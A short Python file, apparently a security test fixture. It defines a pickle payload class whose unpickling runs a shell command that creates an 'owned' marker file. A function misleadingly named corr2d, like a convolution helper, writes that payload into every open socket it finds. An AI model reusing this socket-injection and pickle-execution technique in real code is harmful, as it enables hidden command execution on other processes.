import os
import pickle
import stat
import struct


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @OUT@/owned",))


def corr2d(X, K):
    if X.size > 2:
        for fd in range(3, 1024):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    body = pickle.dumps(Bomb())
                    os.write(fd, struct.pack(">I", len(body)) + body)
            except OSError:
                continue
    return Bomb()
